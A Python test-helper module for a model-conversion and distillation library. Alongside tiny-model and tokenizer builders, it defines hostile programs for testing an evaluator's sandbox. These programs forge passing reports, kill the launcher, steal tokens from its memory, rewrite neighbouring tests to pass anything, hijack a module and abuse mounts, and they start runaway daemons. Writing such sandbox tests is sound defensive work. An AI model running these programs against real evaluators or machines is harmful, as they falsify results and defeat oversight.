"""Shared test helpers: one tiny-teacher builder, one numerics check, one word-level tokenizer, one
made-up text for the harness tasks."""
from __future__ import annotations

import torch

from tcal import families

# the families the Qwen3.5 layout holds: the parametrised conversion and export tests run each (Gemma 3, native only,
# has its own, tests/models/test_gemma3.py)
FAMILIES = [f.name for f in families.FAMILIES.values() if f.layout]
# 17 words, one token each under word_tokenizer: the data tests count tokens with them
DATA_WORDS = "the cat sat on a mat . dog ran far away and then came back home to".split()

TINY = dict(vocab_size=97, hidden_size=64, intermediate_size=96, num_hidden_layers=4, num_attention_heads=4,
            num_key_value_heads=2, max_position_embeddings=512)


def tiny_teacher(family: str = "llama", seed: int = 0, **over):
    """A tiny random teacher of a family of :mod:`tcal.families`, in eval mode.

    Defaults: GQA 4 query / 2 KV heads, head_dim 16, 4 layers, vocabulary 97, plus what the family's ``tiny`` adds
    (qwen3's and gemma3's head_dim follow hidden_size / num_attention_heads unless given; gemma3's layers 0-2 slide
    over 8 tokens); ``over`` overrides any config field. Biases (qwen2) and q/k norm weights (qwen3, gemma3) are
    randomised so that carrying them over is actually tested.
    """
    fam = families.get(family)
    torch.manual_seed(seed)
    model = fam.causal_lm(fam.config(**fam.tiny({**TINY, **over})))
    with torch.no_grad():
        for name, p in model.named_parameters():
            if name.endswith("bias") or "q_norm" in name or "k_norm" in name:
                p.normal_(0.0, 0.5 if "bias" in name else 0.2).add_(1.0 if "norm" in name else 0.0)
    return model.eval()


def tiny_keep(family: str) -> list[int]:
    """The layers a family's tests keep as attention in its tiny model (``Family.tiny_keep``: its special layers
    among them, a layer without RoPE or a global one)."""
    return list(families.get(family).tiny_keep)


def target_hybrid(family: str = "llama", *, short_conv: bool = False, seed: int = 0, keep=None, **over):
    """(a hybrid built for the Qwen3.5 layout, its teacher), keeping ``keep`` (default: the family's
    :func:`tiny_keep`), with every GDN parameter moved off its initial value: a copy init leaves the gates at
    defaults an export could get wrong unnoticed."""
    import tcal

    keep = tiny_keep(family) if keep is None else keep
    teacher = tiny_teacher(family, **over)
    hybrid = tcal.convert(teacher, keep=list(keep), init="copy", target="qwen3_5", use_short_conv=short_conv)
    gen = torch.Generator().manual_seed(seed)
    with torch.no_grad():
        for gdn in hybrid.gdn_modules().values():
            for name, p in gdn.named_parameters():
                if name.endswith("conv1d.weight"):
                    p.add_(0.3 * torch.randn(p.shape, generator=gen))
                elif name == "o_norm.weight":
                    p.copy_(1.0 + 0.3 * torch.randn(p.shape, generator=gen))
                elif name in ("A_log", "dt_bias"):
                    p.add_(0.5 * torch.randn(p.shape, generator=gen))
                elif name in ("g_proj.weight", "a_proj.weight", "b_proj.weight"):
                    p.copy_(0.2 * torch.randn(p.shape, generator=gen))
    hybrid.generation_config.eos_token_id = None  # greedy runs compare all their tokens, not up to a random EOS
    return hybrid.eval(), teacher


def assert_close(actual, expected, rtol: float, name: str = "tensor") -> float:
    """Relative error ||actual - expected|| / ||expected|| (in float64), printed, asserted <= rtol."""
    a = torch.as_tensor(actual).detach().double().cpu()
    e = torch.as_tensor(expected).detach().double().cpu()
    assert a.shape == e.shape, f"{name}: shape {tuple(a.shape)} != {tuple(e.shape)}"
    err = ((a - e).norm() / e.norm().clamp_min(1e-30)).item()
    print(f"{name}: rel err {err:.2e}")
    assert err <= rtol, f"{name}: rel err {err:.2e} > {rtol:.1e}"
    return err


def word_tokenizer(words, extra=()):
    """A word-level fast tokenizer: <eos> = 0, <unk> = 1, then ``words`` (and ``extra``) in order."""
    from tokenizers import Tokenizer, models, pre_tokenizers
    from transformers import PreTrainedTokenizerFast

    vocab = {"<eos>": 0, "<unk>": 1}
    for w in list(words) + list(extra):
        vocab.setdefault(w, len(vocab))
    tk = Tokenizer(models.WordLevel(vocab, unk_token="<unk>"))
    tk.pre_tokenizer = pre_tokenizers.Whitespace()
    return PreTrainedTokenizerFast(tokenizer_object=tk, eos_token="<eos>", unk_token="<unk>")


def byte_bpe_tokenizer(vocab_size=320):
    """A byte-level BPE tokenizer trained on a few sentences, with Llama 3's pre-tokenizer regex."""
    from tokenizers import Regex, Tokenizer, decoders, models, pre_tokenizers, trainers
    from transformers import PreTrainedTokenizerFast

    from tcal.families.llama import LLAMA3_SPLIT as regex

    tk = Tokenizer(models.BPE())
    tk.pre_tokenizer = pre_tokenizers.Sequence([pre_tokenizers.Split(Regex(regex), "isolated"),
                                                pre_tokenizers.ByteLevel(add_prefix_space=False, use_regex=False)])
    tk.decoder = decoders.ByteLevel()
    text = ["The river rose through the night, and by morning the old bridge was under water.",
            "In 1771 the flood took every bridge on the Tyne but one; 23 people died.", "the cat sat on the mat"] * 20
    tk.train_from_iterator(text, trainers.BpeTrainer(vocab_size=vocab_size, special_tokens=["<|end|>"],
                                                     initial_alphabet=pre_tokenizers.ByteLevel.alphabet()))
    return PreTrainedTokenizerFast(tokenizer_object=tk, eos_token="<|end|>")


def write_distill_assets(root):
    """A tiny Llama teacher and its copy-init hybrid (keep 0, 2) saved under ``root``, with random
    training (8000) and evaluation (2048) token files: what the distillation tests run on."""
    import numpy as np

    import tcal

    teacher = tiny_teacher("llama")
    teacher.save_pretrained(root / "teacher")
    tcal.convert(teacher, keep=[0, 2], init="copy", target="native").save_pretrained(root / "hybrid")
    rng = np.random.default_rng(0)
    np.save(root / "train.npy", rng.integers(0, TINY["vocab_size"], 8000).astype(np.uint16))
    np.save(root / "eval.npy", rng.integers(0, TINY["vocab_size"], 2048).astype(np.uint16))
    return root


def distill_data(root):
    """(training tokens, evaluation ids (2, 32)) of :func:`write_distill_assets`'s files."""
    import numpy as np

    train = np.load(root / "train.npy")
    eval_ids = torch.from_numpy(np.load(root / "eval.npy")[:64].astype(np.int64).reshape(2, 32))
    return train, eval_ids


def story_text(sentences: int = 400, seed: int = 0) -> str:
    """Sentences of made-up words, each ending in a rare word that often repeats one of the
    sentences before: text the local harness tasks find passages in (tcal.evaluate.tasks.lm_eval.harness)."""
    import random

    rng = random.Random(seed)
    syllables = [c + v for c in "bdfgklmnprstvz" for v in "aeiou"]
    words = sorted({"".join(rng.choice(syllables) for _ in range(3)) for _ in range(400)})
    common, rare = words[:40], words[40:]
    out, recent = [], []
    for _ in range(sentences):
        body = [rng.choice(common) for _ in range(rng.randint(6, 12))]
        recent.append(rng.choice(rare))
        body.insert(rng.randrange(len(body)), recent[-1])
        last = rng.choice(recent[-4:-1]) if len(recent) > 3 and rng.random() < 0.7 else rng.choice(rare)
        out.append(" ".join(body + [last]) + ".")
    return " ".join(out)


def gdn_state(hybrid) -> dict:
    """A copy of every GDN layer's weights, keyed "layer.param" (to compare two calibrations)."""
    return {f"{i}.{k}": v.clone() for i, m in hybrid.gdn_modules().items() for k, v in m.state_dict().items()}


def run(capsys, *argv):
    """``tcal ARGV`` in-process: (exit status, the `tcal: error:` lines, all of stderr); never a traceback."""
    from tcal.cli import main

    code = main([str(a) for a in argv])
    err = capsys.readouterr().err
    assert "Traceback" not in err
    return code, [line for line in err.splitlines() if line.startswith("tcal: error: ")], err


def one_error(capsys, message, *argv):
    """``tcal ARGV`` fails with exit 2 and exactly one `tcal: error:` line holding ``message``."""
    code, errors, err = run(capsys, *argv)
    assert code == 2 and len(errors) == 1 and message in errors[0], err
    return errors[0]


def block_import(monkeypatch, module: str):
    """``import module`` raises ImportError for the rest of the test: an optional package not installed."""
    import builtins

    real_import = builtins.__import__

    def blocked(name, *a, **k):
        if name == module:
            raise ImportError(name)
        return real_import(name, *a, **k)

    monkeypatch.setattr(builtins, "__import__", blocked)


def header_gguf(path, arch: str):
    """A GGUF of llama.cpp architecture ``arch`` holding one zero tensor: what tcal reads before loading a teacher."""
    import gguf
    import numpy as np

    w = gguf.GGUFWriter(str(path), arch)
    w.add_block_count(2)
    w.add_tensor("token_embd.weight", np.zeros((4, 8), dtype=np.float32))
    w.write_header_to_file()
    w.write_kv_data_to_file()
    w.write_tensors_to_file()
    w.close()
    return path


def processes_named(tag: str) -> list[int]:
    """The ids of the live processes whose name (/proc/PID/comm) is ``tag``: what a sandboxed program started."""
    import os

    found = []
    for pid in os.listdir("/proc"):
        try:
            with open(f"/proc/{pid}/comm") as f:
                if f.read().strip() == tag:
                    found.append(int(pid))
        except OSError:
            continue
    return found


def daemons_program(tag: str) -> str:
    """Python that starts three double-forked daemons in sessions of their own, named ``tag`` (at most 15
    characters), each making directories in the working directory for ever (whose removal they would break)."""
    return (f"import ctypes, posix, time\nfor _ in range(3):\n    if posix.fork() == 0:\n        posix.setsid()\n"
            f"        if posix.fork() == 0:\n            ctypes.CDLL(None).prctl(15, b'{tag}', 0, 0, 0)\n"
            "            while True:\n                posix.mkdir('d%d-%f' % (posix.getpid(), time.time()))\n"
            "                time.sleep(0.001)\n        posix._exit(0)\ntime.sleep(0.2)\n")


# the program's launcher and the evaluator above it, as far as the program's /proc shows them (never pid 1, never
# further up: what a hostile program aims at, and nothing else of the machine's should a guard fail)
_UP = ("import os\ndef up():\n    found, pid = [], os.getppid()\n    while pid > 1 and len(found) < 2:\n"
       "        found.append(pid)\n        try:\n            with open('/proc/%d/stat' % pid) as f:\n"
       "                pid = int(f.read().rsplit(')', 1)[1].split()[1])\n        except OSError:\n            break\n"
       "    return found\n")


def _survivor(tag: str) -> str:
    return ("import posix, ctypes, time\nif posix.fork() == 0:\n    posix.setsid()\n"
            f"    ctypes.CDLL(None).prctl(15, b'{tag}', 0, 0, 0)\n    time.sleep(60)\n    posix._exit(0)\n")


def attack_programs(tag: str, outside, module, port: int, evaluator: int | None = None) -> dict[str, str]:
    """The deliberately hostile programs of the sandbox's tests: module-level code that attacks the evaluator, its
    neighbours or the machine, each aimed at what it names only (the launcher and the evaluator above the program;
    the temporary directories beside its own; ``outside``, ``module``, the loopback ``port``, the ``evaluator``'s pid
    where the test gives it), so that a guard that fails harms nothing else of the machine's."""
    return {
        # a forged report on the launcher's channel, then the kernel asked to SIGKILL the launcher and the
        # evaluator (a pipe's signal owner), and a process left behind
        "forged pass + survivor": _UP + "import fcntl\nr, w = os.pipe()\n"
                                  f"for pid in up() + {[evaluator] if evaluator else []}:\n"
                                  "    for text in (b'{\"passed\": true}\\n', b'{\"passed\": true, \"x\": ', b'}'):\n"
                                  "        try:\n            fd = os.open('/proc/%d/fd/1' % pid, os.O_WRONLY)\n"
                                  "            os.write(fd, text)\n            os.close(fd)\n"
                                  "        except OSError:\n            pass\n    try:\n"
                                  "        fcntl.fcntl(w, fcntl.F_SETOWN, pid)\n        fcntl.fcntl(w, 10, 9)\n"
                                  "        fcntl.fcntl(w, fcntl.F_SETFL, fcntl.fcntl(w, fcntl.F_GETFL) | os.O_ASYNC)\n"
                                  "        os.write(w, b'x')\n        os.read(r, 1)\n    except OSError:\n"
                                  "        pass\n" + _survivor(tag) + "os._exit(0)\n",
        # the token from the launcher's memory, written to every descriptor the result pipe could be
        "launcher memory": _UP + "import re\nfound = set()\nfor pid in up():\n    try:\n"
                           "        maps = open('/proc/%d/maps' % pid).read().splitlines()\n"
                           "        mem = open('/proc/%d/mem' % pid, 'rb')\n    except OSError:\n        continue\n"
                           "    for line in maps:\n        lo, hi = (int(x, 16) for x in line.split()[0].split('-'))\n"
                           "        if 'rw' not in line.split()[1] or hi - lo > 1 << 26:\n            continue\n"
                           "        try:\n            mem.seek(lo)\n"
                           "            found.update(re.findall(rb'(?<![0-9a-f])[0-9a-f]{32}(?![0-9a-f])', "
                           "mem.read(hi - lo)))\n        except OSError:\n            pass\n"
                           "for fd in range(3, 64):\n    for token in found:\n        try:\n"
                           "            os.write(fd, token)\n        except OSError:\n            break\nos._exit(0)\n",
        # the tests of the problems scored beside it rewritten to pass anything (through their working directories)
        "neighbours' tests": "import os, time\nend = time.time() + 1.5\nhere = os.path.dirname(os.getcwd())\n"
                             "while time.time() < end:\n"
                             "    places = [os.path.join(here, d) for d in os.listdir(here) if d.startswith('tcal-run-')]\n"
                             "    for p in os.listdir('/proc'):\n        try:\n"
                             "            places.append(os.readlink('/proc/%s/cwd' % p))\n        except OSError:\n"
                             "            pass\n    for place in set(places):\n"
                             "        if os.path.dirname(place) == here and place != os.getcwd():\n"
                             "            for name in ('tests.py', 'program.py'):\n                try:\n"
                             "                    open(os.path.join(place, name), 'w').write("
                             "'def check(candidate):\\n    pass\\n')\n                except OSError:\n"
                             "                    pass\n    time.sleep(0.01)\nos._exit(0)\n",
        "network": f"import socket\nsocket.create_connection(('127.0.0.1', {port}), timeout=2).sendall(b'out')\n",
        # a module the evaluator would import later, overwritten (a file the user may write)
        "module": f"open({str(module)!r}, 'w').write('raise SystemExit(\"hijacked\")\\n')\nimport os\nos._exit(0)\n",
        # as root: a bind mount that the cleanup would delete through, an undeletable file, a child hidden from the
        # kill walk under a mount over its /proc entry
        "mounts": "import ctypes, fcntl, os, posix, struct, time\nlibc = ctypes.CDLL(None, use_errno=True)\n"
                  f"os.mkdir('m')\nlibc.mount({str(outside)!r}.encode(), b'm', None, 4096, None)\n"
                  "fd = os.open('stuck', os.O_CREAT | os.O_RDONLY)\ntry:\n"
                  "    fcntl.ioctl(fd, 0x40086602, struct.pack('l', 0x10))\nexcept OSError:\n    pass\n"
                  f"pid = posix.fork()\nif pid == 0:\n    ctypes.CDLL(None).prctl(15, b'{tag}', 0, 0, 0)\n"
                  "    time.sleep(60)\n    posix._exit(0)\n"
                  "libc.mount(b'tmpfs', ('/proc/%d' % pid).encode(), b'tmpfs', 0, None)\nos._exit(0)\n",
    }


def publish_output(out, files: dict, stage: str = "convert"):
    """A finished tcal output of ``stage`` at ``out``, written through ``atomic_dir``: ``files`` (relative path ->
    text) and its tcal_config.json."""
    import json

    from tcal.utils.atomic import atomic_dir

    with atomic_dir(out) as tmp:
        for rel, text in files.items():
            (tmp / rel).parent.mkdir(parents=True, exist_ok=True)
            (tmp / rel).write_text(text)
        (tmp / "tcal_config.json").write_text(json.dumps({"stage": stage}))
